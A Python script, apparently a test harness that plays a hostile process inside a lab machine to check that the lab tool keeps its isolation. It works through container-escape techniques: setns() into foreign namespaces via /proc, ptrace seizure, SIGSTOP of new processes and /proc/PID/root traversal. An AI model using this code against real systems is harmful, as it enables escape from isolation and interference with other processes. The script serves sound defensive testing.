"""A hostile daemon that runs inside a lab machine (python3 attacker.py SECONDS MODE TARGET).

It watches the machine's /proc for every new process (the ones nk starts for vcmd, startups,
shutdowns and terminals) and tries to get out through it:
  - open /proc/PID/ns/* and /proc/PID/fd/* and setns() into any namespace that is not the
    machine's own (CVE-2016-9962's class);
  - PTRACE_SEIZE it (and let it go);
  - reach TARGET (a folder in the user's real home) through /proc/PID/root and /proc/PID/cwd.
Whenever it gets anywhere it writes TARGET/escaped. MODE "stop" also SIGSTOPs every new process
(a machine trying to freeze whoever starts commands in it).
Counts go to /hostlab/attack.json every half second.
"""
import ctypes
import json
import os
import signal
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
PTRACE_SEIZE, PTRACE_INTERRUPT, PTRACE_DETACH, WALL = 0x4206, 0x4207, 17, 0x40000000
seconds, mode, target = float(sys.argv[1]), sys.argv[2], sys.argv[3]
mine = {}
for kind in ("mnt", "net", "user", "pid", "uts", "ipc", "cgroup"):
    try:
        mine[os.readlink(f"/proc/self/ns/{kind}")] = kind
    except OSError:
        pass
stats = {"pids": 0, "early": 0, "ns_opened": 0, "fds_listed": 0, "foreign_ns": 0, "setns_foreign": 0,
         "ptraced": 0, "stopped": 0, "escaped": 0, "errors": []}


def escape_attempt(where: str) -> None:
    """We are somewhere we should not be if this works."""
    try:
        fd = os.open(f"{where}/escaped", os.O_WRONLY | os.O_CREAT, 0o644)
        os.close(fd)
        stats["escaped"] += 1
    except OSError:
        pass


def try_setns(path: str) -> None:
    try:
        link = os.readlink(path)
    except OSError:
        return
    if link in mine or not link.split(":")[0] in ("mnt", "net", "user", "pid", "uts", "ipc", "cgroup"):
        return
    stats["foreign_ns"] += 1
    try:
        fd = os.open(path, os.O_RDONLY)
    except OSError:
        return
    try:
        if libc.setns(fd, 0) == 0:
            stats["setns_foreign"] += 1
            escape_attempt(target)
            os._exit(3)  # our namespaces changed: nothing more to learn here
    finally:
        os.close(fd)


def probe(pid: int, first: bool = True) -> bool:
    """Everything against one process; True once its namespaces could be opened (it runs as
    machine root by then). A process caught early is probed again on later rounds."""
    early = False
    if first:
        stats["pids"] += 1
    try:
        early = open(f"/proc/{pid}/comm").read().strip() == "nk-enter"
    except OSError:
        pass
    if first and early:
        stats["early"] += 1  # caught before it ran the command: the window a real attack aims at
    if first and mode == "stop":
        try:
            os.kill(pid, signal.SIGSTOP)
            stats["stopped"] += 1
        except OSError:
            pass
    opened = False
    for kind in ("mnt", "net", "user", "pid"):
        p = f"/proc/{pid}/ns/{kind}"
        try:
            os.close(os.open(p, os.O_RDONLY))
            stats["ns_opened"] += 1
            opened = True
        except OSError:
            continue
        try_setns(p)
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
        stats["fds_listed"] += 1
    except OSError:
        fds = []
    for fd in fds:
        try_setns(f"/proc/{pid}/fd/{fd}")
    for link in ("root", "cwd"):
        escape_attempt(f"/proc/{pid}/{link}{target}")
    if libc.ptrace(PTRACE_SEIZE, pid, 0, 0) == 0:  # it runs as machine root by now, or this fails
        stats["ptraced"] += 1            # stop it the quiet way (no SIGSTOP its parent would see), let go
        if libc.ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0:
            try:
                os.waitpid(pid, WALL)
            except OSError:
                pass
        libc.ptrace(PTRACE_DETACH, pid, 0, 0)
    return opened


def main() -> None:
    seen = {os.getpid(), 1}
    again: dict[int, int] = {}  # pid -> rounds left to probe it again (it was caught too early)
    end = time.monotonic() + seconds
    last = 0.0
    while time.monotonic() < end:
        # the next pid of this pid namespace: spin on it, to catch a process the moment it forks
        nxt = int(open("/proc/loadavg").read().split()[4]) + 1
        for _ in range(2000):
            if os.path.exists(f"/proc/{nxt}"):
                break
        candidates = [nxt] + [int(e) for e in os.listdir("/proc") if e.isdigit()]
        for pid in candidates:
            if pid not in seen and os.path.exists(f"/proc/{pid}"):
                seen.add(pid)
                try:
                    if not probe(pid):
                        again[pid] = 200
                except Exception as e:  # keep attacking
                    stats["errors"].append(repr(e))
        for pid, left in list(again.items()):
            try:
                done = not os.path.exists(f"/proc/{pid}") or probe(pid, first=False)
            except Exception as e:
                stats["errors"].append(repr(e))
                done = True
            if done or left <= 1:
                del again[pid]
            else:
                again[pid] = left - 1
        now = time.monotonic()
        if now - last > 0.5:
            last = now
            with open("/hostlab/attack.json.tmp", "w") as f:
                json.dump(stats, f)
            os.rename("/hostlab/attack.json.tmp", "/hostlab/attack.json")


if __name__ == "__main__":
    main()
